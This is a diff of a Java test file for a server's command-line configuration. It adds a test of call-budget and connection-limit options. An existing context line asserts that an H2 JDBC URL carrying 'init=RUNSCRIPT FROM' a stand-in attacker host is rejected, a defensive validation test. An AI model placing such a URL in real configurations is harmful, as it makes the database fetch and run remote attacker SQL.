@@ -98,4 +98,18 @@ class ServeCommandTest {
         "jdbc:h2:mem:x;init=RUNSCRIPT FROM 'http://attacker.example/x.sql'"))
         .hasMessageContaining("runs a script (INIT=)");
   }
+
+  @Test
+  void callBudgets_config_defaultAndReadOptions() {
+    assertThat(config("--data-dir", directory.toString()).calls())
+        .isEqualTo(ServerConfig.Calls.defaults());
+    assertThat(config("--data-dir", directory.toString(), "--max-authorize-calls", "500",
+        "--max-management-calls", "8", "--max-calls-per-connection", "100",
+        "--max-connection-idle", "1m", "--max-connection-age", "2h").calls())
+        .isEqualTo(new ServerConfig.Calls(500, 8, 100, java.time.Duration.ofMinutes(1),
+            java.time.Duration.ofHours(2)));
+    assertThatThrownBy(() -> config("--data-dir", directory.toString(),
+        "--max-management-calls", "-1")).hasMessageStartingWith(
+            "--max-management-calls \"-1\" is not a limit");
+  }
 }
